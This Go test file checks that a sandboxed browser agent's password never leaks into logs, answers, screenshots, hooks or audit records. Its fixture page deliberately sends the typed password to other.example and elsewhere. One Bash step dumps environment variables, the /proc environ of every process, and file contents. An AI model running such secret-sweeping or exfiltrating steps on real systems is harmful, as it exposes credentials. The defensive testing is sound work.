package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image/jpeg"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"belljar.dev/internal/hooks"
	"belljar.dev/internal/testenv"
)

// leakyPage is a login that shows what is typed in every place where a page can, in red.
// The red square proves that a picture shows the page.
const leakyPage = `<!doctype html><title>Login</title><label>Password <input type=password id=p></label>
<button onclick="alert('alert ' + p.value)">Alert</button> <button onclick="window.open('/child?v=' + encodeURIComponent(p.value))">Window</button>
<button onclick="location = '/file/' + encodeURIComponent(p.value)">File</button> <button onclick="location = 'http://other.example/?' + encodeURIComponent(p.value)">Leave</button>
<button onclick="fetch('/header', {method: 'POST', headers: {'X-Echo': p.value}, body: p.value}).then(async (r) => { rest.append(r.headers.get('X-Echo'), await r.text()); console.log('header', r.headers.get('X-Echo')); document.cookie = 'c=' + encodeURIComponent(p.value) })">Header</button>
<div style="width:40px;height:40px;background:#f00"></div><div id=rest style="font:bold 20px monospace;color:#f00"></div>
<script>
let once = false;
p.addEventListener("input", () => {
  const v = p.value;
  if (once || v.length < 12) return;
  once = true;
  for (const text of [v, btoa(v), [...v].reverse().join(""), encodeURIComponent(v)]) rest.append(Object.assign(document.createElement("p"), {textContent: text}));
  rest.append(Object.assign(document.createElement("a"), {href: "/x?" + v, textContent: "link " + v}), Object.assign(document.createElement("input"), {value: v}), Object.assign(document.createElement("button"), {textContent: v}));
  document.title = "title " + v; history.replaceState(null, "", "/?v=" + encodeURIComponent(v) + "#" + v);
  console.log("log", v); console.error(new Error(v)); setTimeout(() => { throw new Error("thrown " + v) }); fetch("/asked?v=" + encodeURIComponent(v));
});
</script>`

// leaky starts a site with that page. The site also sends a secret back in the body, the
// headers and the names of its answers. It notes its requests in a sink.
func leaky(t *testing.T, found *sinks) *httptest.Server {
	t.Helper()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, err := httputil.DumpRequest(r, true)
		if err != nil {
			t.Error(err)
		}
		found.add("site", string(text))
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch v := r.URL.Query().Get("v"); {
		case r.URL.Path == "/child":
			fmt.Fprintf(w, `<title>child %[1]s</title><body style="font:bold 20px monospace;color:#f00"><p>%[1]s<script>console.log(%[1]q)</script><div style="width:40px;height:40px;background:#f00">`, v)
		case r.URL.Path == "/header":
			w.Header().Set("X-Echo", r.Header.Get("X-Echo"))
			w.Header().Set("Set-Cookie", "echo="+r.Header.Get("X-Echo"))
			_, _ = io.Copy(w, r.Body)
		case strings.HasPrefix(r.URL.Path, "/file/"):
			w.Header().Set("Content-Disposition", fmt.Sprintf("attachment; filename=%q", strings.TrimPrefix(r.URL.Path, "/file/")))
			fmt.Fprint(w, "MARKER-file")
		default:
			fmt.Fprint(w, leakyPage)
		}
	}))
	t.Cleanup(site.Close)
	return site
}

// redIn counts the red pixels of a picture.
func redIn(t *testing.T, picture []byte) (n int) {
	t.Helper()
	img, err := jpeg.Decode(bytes.NewReader(picture))
	if err != nil {
		t.Fatal(err)
	}
	for y := range img.Bounds().Dy() {
		for x := range img.Bounds().Dx() {
			if r, g, b, _ := img.At(x, y).RGBA(); r > 0xa000 && g < 0x5000 && b < 0x5000 {
				n++
			}
		}
	}
	return n
}

// TestBrowserSecretsGoNowhere checks a secret that an agent typed into a page that shows it
// wherever a page can. It is in nothing that the agent, people, hooks, other boxes and
// readers of logs, records and pictures get, and in no file of the server (BR28, BR29).
// Only the site has it.
func TestBrowserSecretsGoNowhere(t *testing.T) {
	testenv.Need(t, testenv.UserNamespaces, testenv.Bash, testenv.Chromium)
	const value = "CanaryMMMM-7hunter2Ww"
	p, found := newPlace(t), &sinks{}
	spans, site := found.recorder(t, "spans"), leaky(t, found)
	_, port, _ := strings.Cut(strings.TrimPrefix(site.URL, "http://"), ":")
	origin := "http://host.belljar.internal:" + port
	secret := filepath.Join(t.TempDir(), "pw")
	if err := os.WriteFile(secret, []byte(value), 0o600); err != nil {
		t.Fatal(err)
	}
	p.policy = p.file(t, "policy.yaml", fmt.Sprintf(`version: 1
secrets: {pw: {file: %q}}
audit: {level: full, otlp: %q}
defaults: {decision: deny, profile: shop}
profiles:
  shop:
    fs: {system: true, workspace: rw}
    net: {mode: proxy, allow_private: ["host.belljar.internal:%s"]}
    browser: {walls: sandboxed, act: true, eval: read, secrets: [{secret: pw, origin: %q, field: password}]}
rules:
  - {id: look, match: {tool: [BrowserLook, Bash]}, decision: allow}
  - {id: move, match: {act: [navigate, follow, point, type, press, download, submit, eval]}, decision: allow}
  - {id: secrets, match: {act: [secret, save]}, decision: ask}
`, secret, spans.URL, port, origin))
	hooked := filepath.Join(p.dir, "hooked")
	if err := os.Mkdir(hooked, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, event := range hooks.Events() {
		p.file(t, filepath.Join("mine", event[0], "sync-tell.sh"), strings.ReplaceAll(bearerHook, "LOG", hooked))
	}
	p.flags = append(p.outside(t), "--log-level", "debug")
	s := p.start(t, wires[0])
	c := s.connect(t, wires[0], nil)
	asked := approves(t, p)

	// see adds the text of an answer to a sink of its own, and counts the pixels of its pictures.
	var pictures sync.Map
	see := func(sink, tool string, args map[string]any) string {
		t.Helper()
		r := c.call(t, tool, args)
		for _, block := range r.Content {
			if image, ok := block.(*sdk.ImageContent); ok {
				pictures.Store("answer: "+sink, redIn(t, image.Data))
			}
		}
		text := strings.Join(textsOf(r), "\n") + fmt.Sprint(r.StructuredContent, r.Meta)
		found.add("answer: "+sink, text)
		return text
	}
	use := func(sink string, step map[string]any) string {
		t.Helper()
		return see(sink, "Browser", map[string]any{"steps": []map[string]any{step}, "then": "page"})
	}
	tell := func(sink string, args ...string) string {
		t.Helper()
		out, err := p.run(t, args...)
		if err != nil {
			t.Errorf("%v: %v: %s", args, err, out)
		}
		found.add(sink, out)
		return out
	}
	at := func(what string, tab ...string) {
		t.Helper()
		args := map[string]any{"at": what}
		for _, name := range tab {
			args["tab"] = name
		}
		see("look at "+what+strings.Join(tab, ""), "BrowserLook", args)
	}
	page := use("open", map[string]any{"do": "open", "url": origin + "/"})
	button := func(name string) map[string]any {
		t.Helper()
		return map[string]any{"do": "click", "ref": refTo(t, page, `button "`+name+`"`)}
	}
	password := refTo(t, page, `password "Password"`)
	use("fill", map[string]any{"do": "fill", "ref": password, "secret": "pw"})
	use("header", button("Header"))
	for _, what := range []string{"page", "text", "picture", "console", "network", "tabs"} {
		at(what)
	}
	see("found lines", "BrowserLook", map[string]any{"find": "link"})
	see("whole page", "BrowserLook", map[string]any{"scope": "all", "max_chars": 30000})
	use("eval", map[string]any{"do": "eval", "text": "document.body.innerText"})
	use("wrong text", map[string]any{"do": "fill", "ref": password, "text": "x", "secret": "pw"})
	use("stale", map[string]any{"do": "click", "ref": 9999})
	use("alert", button("Alert"))
	use("leave", button("Leave"))
	use("file", button("File"))
	at("downloads")
	use("save", map[string]any{"do": "save", "download": "d1", "path": "/workspace/saved.txt"})
	use("window", button("Window"))
	use("other tab", map[string]any{"do": "switch", "text": "t2"})
	for _, what := range []string{"page", "console", "network", "picture"} {
		at(what, "t2")
	}
	see("other box", "Bash", map[string]any{"command": `env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' <$f; done 2>/dev/null; find / -xdev -type f -newer /workspace -size -1000k -exec cat {} + 2>/dev/null; cat /workspace/*; echo MARKER-box`})
	tell("approvals", "approve", "list")
	tell("browsers", "browser", "list")
	tell("browsers as JSON", "browser", "list", "--json")
	tell("Chromes", "browser", "ps")
	tell("boxes", "ps")
	watched := filepath.Join(p.dir, "shown.jpg")
	id := regexp.MustCompile(`\bseat-\d+\b`).FindString(found.text["browsers"].String())
	tell("watching", "browser", "watch", id, "--to", watched, "--once")
	if data, err := os.ReadFile(watched); err != nil {
		t.Error(err)
	} else {
		pictures.Store("watched", redIn(t, data))
	}
	found.addFiles(t, "state of a server that runs", p.state)
	tell("audit", "audit", "show")
	reels, _ := filepath.Glob(filepath.Join(p.dir, "*", "audit", "casts", "*.reel"))
	for _, file := range reels {
		to := filepath.Join(p.dir, "steps.html")
		tell("reels", "audit", "reel", strings.TrimSuffix(filepath.Base(file), ".reel"), "--to", to)
		text, err := os.ReadFile(to)
		if err != nil {
			t.Fatal(err)
		}
		found.add("pages of reels", string(text))
		for i, m := range regexp.MustCompile(`data:image/jpeg;base64,([A-Za-z0-9+/=]+)`).FindAllStringSubmatch(string(text), -1) {
			data, err := base64.StdEncoding.DecodeString(m[1])
			if err != nil {
				t.Fatal(err)
			}
			pictures.Store(fmt.Sprint(filepath.Base(file), " ", i), redIn(t, data))
		}
	}
	s.stop()
	if n := asked(); n < 2 {
		t.Errorf("the person was asked %d times, want at least 2: the secret, the save", n)
	}
	found.add("log", s.stderr.String())
	found.addFiles(t, "state", p.state)
	found.addFiles(t, "hooks", hooked)
	found.addFiles(t, "workspace", p.ws)

	// The control: the page had the secret and showed it, and each sink was really
	// examined.
	for sink, want := range map[string]string{
		"site": "X-Echo: " + value, "answer: fill": "(secret pw)", "answer: look at page": "(secret pw)", "answer: look at text": "(secret pw)", "answer: look at console": "(secret pw)", "answer: look at network": "(secret%20pw)",
		"answer: look at tabs": "(secret%20pw)", "answer: look at paget2": "(secret pw)", "answer: look at consolet2": "(secret pw)", "answer: look at networkt2": "(secret%20pw)", "answer: look at downloads": "(secret pw)", "answer: alert": "(secret pw)",
		"answer: other box": "MARKER-box", "spans": "Browser", "hooks": "BrowserLook", "state": "secret pw", "state of a server that runs": "secret pw", "log": "pid=", "workspace": "MARKER-file", "audit": "Browser",
		"pages of reels": "secret pw", "browsers": "seat-", "Chromes": "seat-", "boxes": "seat-",
	} {
		if text := found.text[sink]; text == nil || !strings.Contains(text.String(), want) {
			t.Errorf("%s: %q is not in it:\n%.2000s", sink, want, fmt.Sprint(text))
		}
	}
	shown := 0
	pictures.Range(func(of, red any) bool {
		shown++
		// The square has 1,600 red pixels, and small red things next to it have some
		// hundred.
		if n, _ := red.(int); n < 1000 || n > 4000 {
			t.Errorf("the picture %v has %d red pixels", of, n)
		}
		return true
	})
	delete(found.text, "site")
	for sink, text := range found.text {
		for _, canary := range []string{value, "hunter2", "2retnuh", "CanaryMMMM", "Q2FuYXJ5TU1NTS"} {
			if at := strings.Index(text.String(), canary); at >= 0 {
				t.Errorf("%s: %s is in it: %q", sink, canary, text.String()[max(0, at-200):min(text.Len(), at+100)])
			}
		}
	}
	if n := len(found.text) + shown; n < 40 {
		t.Errorf("only %d places were looked at", n)
	}
	t.Logf("%d texts and files, %d pictures", len(found.text), shown)
}
